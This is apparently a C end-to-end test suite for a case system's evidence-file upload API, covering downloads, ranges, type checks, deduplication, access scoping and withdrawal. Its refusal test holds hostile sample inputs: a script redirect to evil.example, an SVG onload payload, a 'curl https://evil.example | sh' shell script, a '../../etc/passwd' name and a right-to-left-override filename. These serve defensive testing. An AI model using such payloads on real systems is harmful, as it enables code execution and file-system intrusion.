/*
 * e2e-files.c: evidence files against the real stack (API.md Part 2
 * "Evidence files"):
 *
 *  - a photo and a PDF go up as raw bodies: 201 with every field, the
 *    photo's EXIF and its thumbnail (a JPEG of at most 320 px), the
 *    stream's upload event with case, kind, name and SHA-256;
 *  - they come back byte for byte, with the stored type, ETag = the
 *    SHA-256, Content-Disposition with the UTF-8 name, nosniff, and
 *    Range (206, suffix and open ranges, across pieces, 416, If-Range);
 *  - every type of the allow-list is taken, judged by content; HTML,
 *    SVG, scripts, programs, plain archives and a contradicted declared
 *    type are 415; empty is 422, an unknown kind 422, a name with a path
 *    or a control character 422; past 50 MiB 413 (exactly 50 MiB goes) --
 *    and none of them stores anything;
 *  - the same bytes twice are stored once and listed twice; the
 *    Idempotency-Key replays an upload, and refuses it for other bytes;
 *  - a client that stops half way leaves nothing, nginx's spool
 *    included;
 *  - another region sees none of it (404), an auditor may not upload
 *    (403), a cross-site upload is refused (403), no session 401;
 *  - withdrawal: 200, still listed, twice 409, audited;
 *  - a transfer proposal names which of its documents have a file;
 *  - verify covers the files: a changed piece is reported, naming the
 *    file, and verify is whole again once it is put back.
 */
#include <sys/socket.h>
#include <sys/stat.h>

#include <dirent.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <openssl/sha.h>
#include <openssl/ssl.h>

#include "e2e.h"

#define MIB		(1024 * 1024)
#define PIECE		(256 * 1024)

static struct client	*officer, *legal, *auditor, *shanghai;
static long long	 bj_case, sh_case;
static char		*photo, *pdf;		/* the seeder's samples */
static size_t		 photo_len, pdf_len;

/* ------------------------------------------------------------------ */
/* Helpers                                                            */
/* ------------------------------------------------------------------ */

/* A sample the seeder makes (--photo, --pdf), read whole; malloc'd. */
static char *
sample(const char *what, size_t *len)
{
	const char	*build = getenv("PAICHA_BUILD");
	char		*dir, *path, *cmd, *data;
	FILE		*f;
	long		 n;

	dir = build != NULL && *build != '\0' ? strdup(build) :
	    fmt("%.*s", (int)(strrchr(e2e_env("PAICHA_RUN"), '/') -
	    e2e_env("PAICHA_RUN")), e2e_env("PAICHA_RUN"));
	path = fmt("/tmp/e2e-files-%ld.%s", (long)getpid(), what);
	cmd = fmt("'%s/tools/seed/paicha-seed' --%s '%s'", dir, what, path);
	if (system(cmd) != 0)
		fail_msg("could not make a sample: %s", cmd);
	assert_non_null(f = fopen(path, "rb"));
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	rewind(f);
	assert_true(n > 0);
	assert_non_null(data = malloc((size_t)n));
	assert_int_equal(fread(data, 1, (size_t)n, f), (size_t)n);
	fclose(f);
	unlink(path);
	*len = (size_t)n;
	free(dir);
	free(path);
	free(cmd);
	return data;
}

static void
sha_hex(const void *p, size_t n, char out[65])
{
	unsigned char	 h[32];
	int		 i;

	SHA256(p, n, h);
	for (i = 0; i < 32; i++)
		snprintf(out + 2 * i, 3, "%02x", h[i]);
}

/* Upload `len` bytes as a file of `case_id`; returns the status. */
static long
upload(struct client *c, long long case_id, const char *kind,
    const char *name, const char *ctype, const char *data, size_t len,
    const char *key, struct resp *r)
{
	char		*path, *h1 = NULL, *h2 = NULL, *esc;
	const char	*h[3] = { NULL, NULL, NULL };
	CURL		*cu = curl_easy_init();
	int		 n = 0;
	long		 st;

	esc = curl_easy_escape(cu, name, 0);
	path = fmt("/api/v1/cases/%lld/files?kind=%s&name=%s", case_id, kind,
	    esc);
	if (ctype != NULL)
		h[n++] = h1 = fmt("Content-Type: %s", ctype);
	else
		h[n++] = h1 = fmt("Content-Type:");
	if (key != NULL)
		h[n++] = h2 = fmt("Idempotency-Key: %s", key);
	st = http_raw(c, "POST", path, data, len, h, r);
	curl_free(esc);
	curl_easy_cleanup(cu);
	free(path);
	free(h1);
	free(h2);
	return st;
}

/* How many rows `table` has (superuser). */
static long
rows(const char *table)
{
	PGconn	*db = db_admin();
	char	*sql = fmt("SELECT count(*) FROM %s", table), *n;
	long	 v;

	n = db_value(db, sql, NULL);
	v = strtol(n, NULL, 10);
	free(n);
	free(sql);
	PQfinish(db);
	return v;
}

/* Every stored row: files, contents, pieces, thumbnails, file events. */
struct counts {
	long	 files, blobs, chunks, thumbs, events;
};

static void
count_all(struct counts *k)
{
	k->files = rows("files");
	k->blobs = rows("file_blobs");
	k->chunks = rows("file_chunks");
	k->thumbs = rows("file_thumbnails");
	k->events = rows("ledger_events WHERE entity = 'file'");
}

static void
assert_nothing_stored(const struct counts *before, const char *what)
{
	struct counts	 now;

	count_all(&now);
	if (memcmp(&now, before, sizeof(now)) != 0)
		fail_msg("%s stored something: files %ld->%ld, contents %ld->%ld,"
		    " pieces %ld->%ld, events %ld->%ld", what, before->files,
		    now.files, before->blobs, now.blobs, before->chunks,
		    now.chunks, before->events, now.events);
}

/* `n` bytes that are a PDF to libmagic and unlike any other upload. */
static char *
fake_pdf(size_t n)
{
	static unsigned	 calls;
	char		*p = malloc(n);
	size_t		 i;
	unsigned	 x = (unsigned)getpid() * 2654435761u ^
			    (unsigned)time(NULL) ^ ++calls * 40503u;

	assert_non_null(p);
	memcpy(p, "%PDF-1.4\n", 9);
	for (i = 9; i < n; i++) {
		x = x * 1103515245u + 12345u;
		p[i] = (char)(x >> 16);
	}
	return p;
}

static long long
id_of(const struct resp *r)
{
	return json_integer_value(json_object_get(r->json, "id"));
}

static const char *
str_of(const struct resp *r, const char *k)
{
	const char	*s = json_string_value(json_object_get(r->json, k));

	return s != NULL ? s : "";
}

/* ------------------------------------------------------------------ */
/* Setup                                                              */
/* ------------------------------------------------------------------ */

static int
setup(void **state)
{
	char	 uscc[19];

	(void)state;
	officer = client_login("officer.bj", DEMO_PASSWORD);
	legal = client_login("legal.bj", DEMO_PASSWORD);
	auditor = client_login("auditor.bj", DEMO_PASSWORD);
	shanghai = client_login("officer.sh", DEMO_PASSWORD);
	bj_case = fixture_case(officer, fixture_enterprise(officer, "110101",
	    uscc));
	sh_case = fixture_case(shanghai, fixture_enterprise(shanghai, "310101",
	    uscc));
	photo = sample("photo", &photo_len);
	pdf = sample("pdf", &pdf_len);
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	client_free(officer);
	client_free(legal);
	client_free(auditor);
	client_free(shanghai);
	free(photo);
	free(pdf);
	return 0;
}

/* ------------------------------------------------------------------ */
/* Upload, list, download                                             */
/* ------------------------------------------------------------------ */

/* The width and height of a JPEG's first frame (SOF0/SOF2). */
static void
jpeg_size(const unsigned char *p, size_t n, int *w, int *h)
{
	size_t	 i = 2;

	*w = *h = 0;
	while (i + 9 < n && p[i] == 0xff) {
		if (p[i + 1] == 0xc0 || p[i + 1] == 0xc2) {
			*h = p[i + 5] << 8 | p[i + 6];
			*w = p[i + 7] << 8 | p[i + 8];
			return;
		}
		i += 2 + (size_t)(p[i + 2] << 8 | p[i + 3]);
	}
}

static void
test_photo_up_and_down(void **state)
{
	struct resp	 r;
	json_t		*exif, *ev;
	char		 sha[65], v[1024], *path, *want;
	long long	 id;
	int		 w, h;

	(void)state;
	sha_hex(photo, photo_len, sha);
	upload(officer, bj_case, "photo", "现场照片 1.jpg", "image/jpeg", photo,
	    photo_len, NULL, &r);
	assert_status(&r, 201);
	id = id_of(&r);
	assert_true(id > 0);
	assert_int_equal(json_integer_value(json_object_get(r.json,
	    "case_id")), bj_case);
	assert_string_equal(str_of(&r, "kind"), "photo");
	assert_string_equal(str_of(&r, "name"), "现场照片 1.jpg");
	assert_string_equal(str_of(&r, "type"), "image/jpeg");
	assert_int_equal(json_integer_value(json_object_get(r.json, "size")),
	    photo_len);
	assert_string_equal(str_of(&r, "sha256"), sha);
	assert_string_equal(str_of(&r, "uploaded_by"), "officer.bj");
	assert_true(strlen(str_of(&r, "at")) >= 20);
	assert_true(json_is_false(json_object_get(r.json, "withdrawn")));
	/* The seeder's sample: 2026-05-20 10:30 +08:00 at 39.9087, 116.3975. */
	exif = json_object_get(r.json, "exif");
	assert_string_equal(json_string_value(json_object_get(exif,
	    "taken_at")), "2026-05-20T10:30:00+08:00");
	assert_true(json_real_value(json_object_get(exif, "lat")) > 39.908 &&
	    json_real_value(json_object_get(exif, "lat")) < 39.910);
	assert_true(json_real_value(json_object_get(exif, "lon")) > 116.397 &&
	    json_real_value(json_object_get(exif, "lon")) < 116.398);
	want = fmt("/api/v1/files/%lld", id);
	assert_non_null(resp_header(&r, "Location", v, sizeof(v)));
	assert_string_equal(v, want);
	resp_free(&r);

	/* Listed with its case. */
	path = fmt("/api/v1/cases/%lld/files", bj_case);
	assert_true(list_has(officer, path, id));
	assert_true(list_has(auditor, path, id));
	free(path);

	/* The bytes, as they were. */
	http_get(officer, want, &r);
	assert_status(&r, 200);
	assert_int_equal(r.len, photo_len);
	assert_memory_equal(r.body, photo, photo_len);
	assert_non_null(resp_header(&r, "Content-Type", v, sizeof(v)));
	assert_string_equal(v, "image/jpeg");
	assert_non_null(resp_header(&r, "ETag", v, sizeof(v)));
	path = fmt("\"%s\"", sha);
	assert_string_equal(v, path);
	free(path);
	assert_non_null(resp_header(&r, "Content-Disposition", v, sizeof(v)));
	assert_string_equal(v, "attachment; filename*=UTF-8''%E7%8E%B0%E5%9C%BA"
	    "%E7%85%A7%E7%89%87%201.jpg");
	assert_non_null(resp_header(&r, "X-Content-Type-Options", v,
	    sizeof(v)));
	assert_string_equal(v, "nosniff");
	assert_non_null(resp_header(&r, "Accept-Ranges", v, sizeof(v)));
	assert_string_equal(v, "bytes");
	/* Only the file route may be framed, and only by this origin. */
	assert_non_null(resp_header(&r, "X-Frame-Options", v, sizeof(v)));
	assert_string_equal(v, "SAMEORIGIN");
	assert_non_null(resp_header(&r, "Content-Security-Policy", v,
	    sizeof(v)));
	assert_non_null(strstr(v, "frame-ancestors 'self'"));
	resp_free(&r);
	path = fmt("%s?inline=true", want);
	http_get(officer, path, &r);
	assert_status(&r, 200);
	assert_non_null(resp_header(&r, "Content-Disposition", v, sizeof(v)));
	assert_true(strncmp(v, "inline; filename*=UTF-8''", 25) == 0);
	resp_free(&r);
	free(path);
	http_get(officer, "/api/v1/cases", &r);
	assert_non_null(resp_header(&r, "X-Frame-Options", v, sizeof(v)));
	assert_string_equal(v, "DENY");
	resp_free(&r);

	/* Its thumbnail: a JPEG, at most 320 px a side. */
	path = fmt("%s/thumbnail", want);
	http_get(auditor, path, &r);
	assert_status(&r, 200);
	assert_non_null(resp_header(&r, "Content-Type", v, sizeof(v)));
	assert_string_equal(v, "image/jpeg");
	jpeg_size((const unsigned char *)r.body, r.len, &w, &h);
	assert_true(w > 0 && h > 0 && w <= 320 && h <= 320);
	assert_true(w == 320 || h == 320);
	resp_free(&r);
	free(path);

	/* Its upload is an event of its own stream. */
	path = fmt("/api/v1/audit/events?entity=file&entity_id=%lld", id);
	http_get(auditor, path, &r);
	assert_status(&r, 200);
	assert_int_equal(json_array_size(json_object_get(r.json, "items")), 1);
	ev = json_array_get(json_object_get(r.json, "items"), 0);
	assert_string_equal(json_string_value(json_object_get(ev, "event")),
	    "upload");
	assert_int_equal(json_integer_value(json_object_get(json_object_get(ev,
	    "payload"), "case")), bj_case);
	assert_string_equal(json_string_value(json_object_get(json_object_get(ev,
	    "payload"), "sha256")), sha);
	assert_string_equal(json_string_value(json_object_get(json_object_get(ev,
	    "payload"), "kind")), "photo");
	assert_string_equal(json_string_value(json_object_get(json_object_get(ev,
	    "payload"), "name")), "现场照片 1.jpg");
	resp_free(&r);
	free(path);
	free(want);
}

static void
test_ranges(void **state)
{
	struct resp	 r;
	char		 v[256], *path, *big, *h, *ifr;
	const char	*hd[3];
	size_t		 n = 3 * PIECE + 12345;
	long long	 id;
	char		 sha[65];

	(void)state;
	/* A file of four pieces, to cross their boundaries. */
	big = fake_pdf(n);
	sha_hex(big, n, sha);
	upload(officer, bj_case, "inspection_report", "检验报告.pdf",
	    "application/pdf", big, n, NULL, &r);
	assert_status(&r, 201);
	id = id_of(&r);
	assert_true(json_is_null(json_object_get(r.json, "thumbnail")));
	resp_free(&r);
	path = fmt("/api/v1/files/%lld", id);

	http_get(officer, path, &r);
	assert_status(&r, 200);
	assert_int_equal(r.len, n);
	assert_memory_equal(r.body, big, n);
	resp_free(&r);

	static const struct {
		const char	*range;
		long long	 from, to;	/* -1: 416 */
	} cases[] = {
		{ "bytes=0-99", 0, 99 },
		{ "bytes=262100-262200", 262100, 262200 },	/* across pieces */
		{ "bytes=524287-786432", 524287, 786432 },
		{ "bytes=786000-", 786000, 3 * PIECE + 12344 },
		{ "bytes=-1000", 3 * PIECE + 12345 - 1000, 3 * PIECE + 12344 },
		{ "bytes=0-0", 0, 0 },
		{ "bytes=790000-99999999", 790000, 3 * PIECE + 12344 },
		{ "bytes=9999999-", -1, -1 },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		h = fmt("Range: %s", cases[i].range);
		hd[0] = h;
		hd[1] = NULL;
		http(officer, "GET", path, NULL, hd, &r);
		if (cases[i].from < 0) {
			assert_problem(&r, 416);
			assert_non_null(resp_header(&r, "Content-Range", v,
			    sizeof(v)));
			ifr = fmt("bytes */%zu", n);
			assert_string_equal(v, ifr);
			free(ifr);
		} else {
			assert_status(&r, 206);
			assert_int_equal(r.len, cases[i].to - cases[i].from + 1);
			assert_memory_equal(r.body, big + cases[i].from, r.len);
			assert_non_null(resp_header(&r, "Content-Range", v,
			    sizeof(v)));
			ifr = fmt("bytes %lld-%lld/%zu", cases[i].from,
			    cases[i].to, n);
			assert_string_equal(v, ifr);
			free(ifr);
		}
		resp_free(&r);
		free(h);
	}
	/* Several ranges, or If-Range of other bytes: the whole file. */
	hd[0] = "Range: bytes=0-1,5-6";
	hd[1] = NULL;
	http(officer, "GET", path, NULL, hd, &r);
	assert_status(&r, 200);
	assert_int_equal(r.len, n);
	resp_free(&r);
	hd[0] = "Range: bytes=0-9";
	hd[1] = "If-Range: \"0000\"";
	hd[2] = NULL;
	http(officer, "GET", path, NULL, hd, &r);
	assert_status(&r, 200);
	assert_int_equal(r.len, n);
	resp_free(&r);
	ifr = fmt("If-Range: \"%s\"", sha);
	hd[1] = ifr;
	http(officer, "GET", path, NULL, hd, &r);
	assert_status(&r, 206);
	assert_int_equal(r.len, 10);
	resp_free(&r);
	free(ifr);

	/* No thumbnail for a PDF. */
	h = fmt("%s/thumbnail", path);
	http_get(officer, h, &r);
	assert_problem(&r, 404);
	resp_free(&r);
	free(h);
	free(path);
	free(big);
}

/* Every type of the allow-list, judged by its content. */
static void
test_types_taken(void **state)
{
	static const unsigned char png[] = {
		0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13,
		'I', 'H', 'D', 'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0,
		0x90, 0x77, 0x53, 0xde, 0, 0, 0, 12, 'I', 'D', 'A', 'T', 0x08,
		0xd7, 0x63, 0xf8, 0xcf, 0xc0, 0, 0, 3, 1, 1, 0, 0x18, 0xdd,
		0x8d, 0xb0, 0, 0, 0, 0, 'I', 'E', 'N', 'D', 0xae, 0x42, 0x60,
		0x82
	};
	static const unsigned char mp4[] = {
		0, 0, 0, 0x18, 'f', 't', 'y', 'p', 'i', 's', 'o', 'm', 0, 0, 2,
		0, 'i', 's', 'o', 'm', 'm', 'p', '4', '1', 0, 0, 0, 8, 'f',
		'r', 'e', 'e'
	};
	static const char ofd[] = "PK\3\4\24\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
	    "\0\0\0\0\0\0\7\0\0\0OFD.xmlPK\5\6";
	static const char docx[] = "PK\3\4\24\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
	    "\0\0\0\0\0\0\21\0\0\0word/document.xmlPK\5\6";
	static const char xlsx[] = "PK\3\4\24\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
	    "\0\0\0\0\0\0\17\0\0\0xl/workbook.xmlPK\5\6";
	static const char text[] = "整改情况说明\n企业已更换全部不合格产品。\n";
	static const struct {
		const void	*data;
		size_t		 len;
		const char	*ctype;
		const char	*want;
	} cases[] = {
		{ png, sizeof(png), "image/png", "image/png" },
		{ mp4, sizeof(mp4), "video/mp4", "video/mp4" },
		{ ofd, sizeof(ofd) - 1, "application/ofd", "application/ofd" },
		{ docx, sizeof(docx) - 1, NULL,
		    "application/vnd.openxmlformats-officedocument."
		    "wordprocessingml.document" },
		{ xlsx, sizeof(xlsx) - 1, "application/octet-stream",
		    "application/vnd.openxmlformats-officedocument."
		    "spreadsheetml.sheet" },
		{ text, sizeof(text) - 1, "text/plain; charset=utf-8",
		    "text/plain" },
	};
	struct resp	 r;
	size_t		 i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		upload(officer, bj_case, "other", "材料", cases[i].ctype,
		    cases[i].data, cases[i].len, NULL, &r);
		assert_status(&r, 201);
		assert_string_equal(str_of(&r, "type"), cases[i].want);
		assert_true(json_is_null(json_object_get(r.json, "thumbnail")) ==
		    (strcmp(cases[i].want, "image/png") != 0));
		resp_free(&r);
	}
}

/* ------------------------------------------------------------------ */
/* Bad input changes nothing                                          */
/* ------------------------------------------------------------------ */

static void
test_refused(void **state)
{
	static const char html[] = "<!DOCTYPE html><html><body><script>"
	    "document.location='https://evil.example'</script></body></html>\n";
	static const char svg[] = "<?xml version=\"1.0\"?>\n<svg xmlns="
	    "\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>\n";
	static const char sh[] = "#!/bin/sh\ncurl https://evil.example | sh\n";
	static const char zip[] = "PK\3\4\24\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
	    "\0\0\0\0\0\0\12\0\0\0readme.txtPK\5\6";
	struct counts	 before;
	struct resp	 r;
	char		*elf, *big;
	size_t		 elf_len;
	FILE		*f;

	(void)state;
	count_all(&before);
	assert_non_null(f = fopen("/bin/true", "rb"));
	assert_non_null(elf = malloc(65536));
	elf_len = fread(elf, 1, 65536, f);
	fclose(f);

	/* Off the allow-list: 415, whatever it claims to be. */
	upload(officer, bj_case, "other", "a.html", "text/html", html,
	    sizeof(html) - 1, NULL, &r);
	assert_problem(&r, 415);
	resp_free(&r);
	upload(officer, bj_case, "other", "a.txt", "text/plain", html,
	    sizeof(html) - 1, NULL, &r);
	assert_problem(&r, 415);
	resp_free(&r);
	upload(officer, bj_case, "photo", "a.svg", "image/svg+xml", svg,
	    sizeof(svg) - 1, NULL, &r);
	assert_problem(&r, 415);
	resp_free(&r);
	upload(officer, bj_case, "other", "a.sh", NULL, sh, sizeof(sh) - 1,
	    NULL, &r);
	assert_problem(&r, 415);
	resp_free(&r);
	upload(officer, bj_case, "other", "true.pdf", "application/pdf", elf,
	    elf_len, NULL, &r);
	assert_problem(&r, 415);
	resp_free(&r);
	upload(officer, bj_case, "other", "a.zip", "application/zip", zip,
	    sizeof(zip) - 1, NULL, &r);
	assert_problem(&r, 415);
	resp_free(&r);
	/* Allowed content, declared as something else: 415. */
	upload(officer, bj_case, "photo", "a.png", "image/png", photo,
	    photo_len, NULL, &r);
	assert_problem(&r, 415);
	resp_free(&r);
	upload(officer, bj_case, "photo", "a.jpg", "image/jpeg", pdf, pdf_len,
	    NULL, &r);
	assert_problem(&r, 415);
	resp_free(&r);

	/* Empty: 422. */
	upload(officer, bj_case, "photo", "a.jpg", "image/jpeg", "", 0, NULL,
	    &r);
	assert_problem_field(&r, 422, "file");
	resp_free(&r);
	/* An unknown or missing kind: 422 naming it. */
	upload(officer, bj_case, "selfie", "a.jpg", "image/jpeg", photo,
	    photo_len, NULL, &r);
	assert_problem_field(&r, 422, "kind");
	resp_free(&r);
	http_raw(officer, "POST", "/api/v1/cases/1/files?name=a.jpg", photo,
	    photo_len, NULL, &r);
	assert_problem_field(&r, 422, "kind");
	resp_free(&r);
	/* Names with a path or control characters are refused (422), never
	 * rewritten. */
	upload(officer, bj_case, "photo", "../../etc/passwd", "image/jpeg",
	    photo, photo_len, NULL, &r);
	assert_problem_field(&r, 422, "name");
	resp_free(&r);
	upload(officer, bj_case, "photo", "a\\b.jpg", "image/jpeg", photo,
	    photo_len, NULL, &r);
	assert_problem_field(&r, 422, "name");
	resp_free(&r);
	upload(officer, bj_case, "photo", "a\nb.jpg", "image/jpeg", photo,
	    photo_len, NULL, &r);
	assert_problem_field(&r, 422, "name");
	resp_free(&r);
	upload(officer, bj_case, "photo", "gpj.\xe2\x80\xae" "exe",
	    "image/jpeg", photo, photo_len, NULL, &r);
	assert_problem_field(&r, 422, "name");
	resp_free(&r);
	upload(officer, bj_case, "photo", "..", "image/jpeg", photo, photo_len,
	    NULL, &r);
	assert_problem_field(&r, 422, "name");
	resp_free(&r);

	/* Past 50 MiB: 413 (nginx, before the service). */
	big = fake_pdf(50 * MIB + 1);
	upload(officer, bj_case, "other", "big.pdf", "application/pdf", big,
	    50 * MIB + 1, NULL, &r);
	assert_problem(&r, 413);
	resp_free(&r);
	assert_nothing_stored(&before, "a refused upload");

	/* Exactly 50 MiB: taken. */
	upload(officer, bj_case, "other", "50MiB.pdf", "application/pdf", big,
	    50 * MIB, NULL, &r);
	assert_status(&r, 201);
	assert_int_equal(json_integer_value(json_object_get(r.json, "size")),
	    50 * MIB);
	resp_free(&r);
	free(big);
	free(elf);

	/* Every other route keeps its 64 KiB. */
	big = calloc(1, 70 * 1024);
	memset(big, ' ', 70 * 1024 - 1);
	big[0] = '{';
	big[70 * 1024 - 2] = '}';
	http(officer, "POST", "/api/v1/enterprises", big, NULL, &r);
	assert_problem(&r, 413);
	resp_free(&r);
	free(big);
}

/* The same bytes twice: stored once, listed twice; the key replays. */
static void
test_dedup_and_idempotency(void **state)
{
	struct counts	 before, after;
	struct resp	 r, r2;
	char		*doc = fake_pdf(PIECE + 100), *key, *path;
	long long	 a, b;

	(void)state;
	count_all(&before);
	upload(officer, bj_case, "minutes", "纪要.pdf", "application/pdf", doc,
	    PIECE + 100, NULL, &r);
	assert_status(&r, 201);
	a = id_of(&r);
	upload(legal, bj_case, "other", "纪要（副本）.pdf", NULL, doc,
	    PIECE + 100, NULL, &r2);
	assert_status(&r2, 201);
	b = id_of(&r2);
	assert_true(a != b);
	assert_string_equal(str_of(&r, "sha256"), str_of(&r2, "sha256"));
	assert_string_equal(str_of(&r2, "uploaded_by"), "legal.bj");
	resp_free(&r);
	resp_free(&r2);
	count_all(&after);
	assert_int_equal(after.files, before.files + 2);
	assert_int_equal(after.blobs, before.blobs + 1);
	assert_int_equal(after.chunks, before.chunks + 2);
	path = fmt("/api/v1/cases/%lld/files", bj_case);
	assert_true(list_has(officer, path, a) && list_has(officer, path, b));
	free(path);

	/* The same key and bytes: the first answer again, nothing new. */
	key = fmt("e2e-files-%ld", (long)getpid());
	doc[20] ^= 1;
	upload(officer, bj_case, "photo", "k.pdf", "application/pdf", doc,
	    PIECE + 100, key, &r);
	assert_status(&r, 201);
	count_all(&before);
	upload(officer, bj_case, "photo", "k.pdf", "application/pdf", doc,
	    PIECE + 100, key, &r2);
	assert_status(&r2, 201);
	assert_int_equal(id_of(&r2), id_of(&r));
	count_all(&after);
	assert_int_equal(after.files, before.files);
	assert_int_equal(after.chunks, before.chunks);
	resp_free(&r);
	resp_free(&r2);
	/* The same key, other bytes (or another name): 422, nothing stored. */
	doc[21] ^= 1;
	upload(officer, bj_case, "photo", "k.pdf", "application/pdf", doc,
	    PIECE + 100, key, &r);
	assert_problem(&r, 422);
	resp_free(&r);
	doc[21] ^= 1;
	upload(officer, bj_case, "photo", "k2.pdf", "application/pdf", doc,
	    PIECE + 100, key, &r);
	assert_problem(&r, 422);
	resp_free(&r);
	assert_nothing_stored(&after, "a reused key");
	free(key);
	free(doc);
}

/* The entries of nginx's spool for request bodies. */
static int
spooled(void)
{
	char		*dir = fmt("%s/nginx/tmp/body", e2e_env("PAICHA_VAR"));
	DIR		*d = opendir(dir);
	struct dirent	*e;
	int		 n = 0;

	free(dir);
	if (d == NULL)
		return 0;
	while ((e = readdir(d)) != NULL)
		if (e->d_name[0] != '.')
			n++;
	closedir(d);
	return n;
}

/* A client that stops half way leaves nothing, anywhere. */
static void
test_stopped_half_way(void **state)
{
	struct counts	 before;
	const char	*url = e2e_url(), *hp;
	char		 host[128], port[16], *req, *tok, *body;
	struct addrinfo	 hints, *ai = NULL;
	SSL_CTX		*ctx;
	SSL		*ssl;
	int		 fd;
	size_t		 half = 3 * MIB;

	(void)state;
	count_all(&before);
	tok = client_token(officer);
	body = fake_pdf(half);
	req = fmt("POST /api/v1/cases/%lld/files?kind=other&name=half.pdf "
	    "HTTP/1.1\r\nHost: localhost\r\nCookie: __Host-paicha=%s\r\n"
	    "Content-Type: application/pdf\r\nContent-Length: %d\r\n\r\n",
	    bj_case, tok, 8 * MIB);
	hp = strstr(url, "://") + 3;
	assert_int_equal(sscanf(hp, "%127[^:]:%15[0-9]", host, port), 2);
	memset(&hints, 0, sizeof(hints));
	hints.ai_socktype = SOCK_STREAM;
	hints.ai_family = AF_INET;
	assert_int_equal(getaddrinfo(host, port, &hints, &ai), 0);
	assert_true((fd = socket(ai->ai_family, SOCK_STREAM, 0)) >= 0);
	assert_int_equal(connect(fd, ai->ai_addr, ai->ai_addrlen), 0);
	ctx = SSL_CTX_new(TLS_client_method());
	SSL_CTX_load_verify_locations(ctx, e2e_env("PAICHA_CA"), NULL);
	ssl = SSL_new(ctx);
	SSL_set_tlsext_host_name(ssl, host);
	SSL_set_fd(ssl, fd);
	assert_int_equal(SSL_connect(ssl), 1);
	assert_int_equal(SSL_write(ssl, req, (int)strlen(req)),
	    (int)strlen(req));
	assert_int_equal(SSL_write(ssl, body, (int)half), (int)half);
	usleep(300000);
	/* Half way: nginx holds it, in an unlinked spool -- no file name. */
	assert_int_equal(spooled(), 0);
	SSL_free(ssl);
	SSL_CTX_free(ctx);
	close(fd);
	freeaddrinfo(ai);
	usleep(500000);
	assert_int_equal(spooled(), 0);
	assert_nothing_stored(&before, "an upload stopped half way");
	free(req);
	free(tok);
	free(body);
}

/* ------------------------------------------------------------------ */
/* Who may                                                            */
/* ------------------------------------------------------------------ */

static void
test_scope_and_roles(void **state)
{
	struct resp	 r;
	struct client	*anon = client_new();
	const char	*cross[] = { "Content-Type: image/jpeg",
			    "Origin: https://evil.example", NULL };
	char		*path, *list, *thumb;
	long long	 id;

	(void)state;
	upload(officer, bj_case, "photo", "scope.jpg", "image/jpeg", photo,
	    photo_len, NULL, &r);
	assert_status(&r, 201);
	id = id_of(&r);
	resp_free(&r);
	path = fmt("/api/v1/files/%lld", id);
	thumb = fmt("/api/v1/files/%lld/thumbnail", id);
	list = fmt("/api/v1/cases/%lld/files", bj_case);
	/* Shanghai sees none of Beijing's: 404, as for nothing at all. */
	http_get(shanghai, path, &r);
	assert_problem(&r, 404);
	resp_free(&r);
	http_get(shanghai, thumb, &r);
	assert_problem(&r, 404);
	resp_free(&r);
	http_get(shanghai, list, &r);
	assert_problem(&r, 404);
	resp_free(&r);
	upload(shanghai, bj_case, "photo", "x.jpg", "image/jpeg", photo,
	    photo_len, NULL, &r);
	assert_problem(&r, 404);
	resp_free(&r);
	free(path);
	path = fmt("/api/v1/files/%lld/withdraw", id);
	http_json(shanghai, "POST", path, json_pack("{s:s}", "reason", "x"),
	    NULL, &r);
	assert_problem(&r, 404);
	resp_free(&r);
	free(path);
	/* ... and Beijing none of Shanghai's. */
	path = fmt("/api/v1/cases/%lld/files", sh_case);
	http_get(officer, path, &r);
	assert_problem(&r, 404);
	resp_free(&r);
	free(path);
	/* An auditor reads but does not upload; no session, no upload. */
	upload(auditor, bj_case, "photo", "x.jpg", "image/jpeg", photo,
	    photo_len, NULL, &r);
	assert_problem(&r, 403);
	resp_free(&r);
	upload(anon, bj_case, "photo", "x.jpg", "image/jpeg", photo, photo_len,
	    NULL, &r);
	assert_problem(&r, 401);
	resp_free(&r);
	/* The same front line: a cross-site upload is refused. */
	path = fmt("/api/v1/cases/%lld/files?kind=photo&name=x.jpg", bj_case);
	http_raw(officer, "POST", path, photo, photo_len, cross, &r);
	assert_problem(&r, 403);
	resp_free(&r);
	free(path);
	free(thumb);
	free(list);
	client_free(anon);
}

/* ------------------------------------------------------------------ */
/* Withdrawal                                                         */
/* ------------------------------------------------------------------ */

static void
test_withdraw(void **state)
{
	struct resp	 r;
	char		*path, *w, *ev;
	long long	 id;

	(void)state;
	upload(officer, bj_case, "notice", "通知书.pdf", "application/pdf", pdf,
	    pdf_len, NULL, &r);
	assert_status(&r, 201);
	id = id_of(&r);
	resp_free(&r);
	w = fmt("/api/v1/files/%lld/withdraw", id);
	http_json(officer, "POST", w, json_pack("{}"), NULL, &r);
	assert_problem_field(&r, 422, "reason");
	resp_free(&r);
	http_json(officer, "POST", w, json_pack("{s:s}", "reason",
	    "上传了错误的版本"), NULL, &r);
	assert_status(&r, 200);
	assert_true(json_is_true(json_object_get(r.json, "withdrawn")));
	assert_string_equal(str_of(&r, "withdraw_reason"), "上传了错误的版本");
	resp_free(&r);
	http_json(officer, "POST", w, json_pack("{s:s}", "reason", "再次"),
	    NULL, &r);
	assert_problem(&r, 409);
	resp_free(&r);
	/* Still listed, still there. */
	path = fmt("/api/v1/cases/%lld/files", bj_case);
	assert_true(list_has(officer, path, id));
	free(path);
	path = fmt("/api/v1/files/%lld", id);
	http_get(officer, path, &r);
	assert_status(&r, 200);
	assert_int_equal(r.len, pdf_len);
	resp_free(&r);
	free(path);
	ev = fmt("/api/v1/audit/events?entity=file&entity_id=%lld", id);
	http_get(auditor, ev, &r);
	assert_status(&r, 200);
	assert_int_equal(json_array_size(json_object_get(r.json, "items")), 2);
	assert_string_equal(json_string_value(json_object_get(json_array_get(
	    json_object_get(r.json, "items"), 1), "event")), "withdraw");
	resp_free(&r);
	free(ev);
	free(w);
}

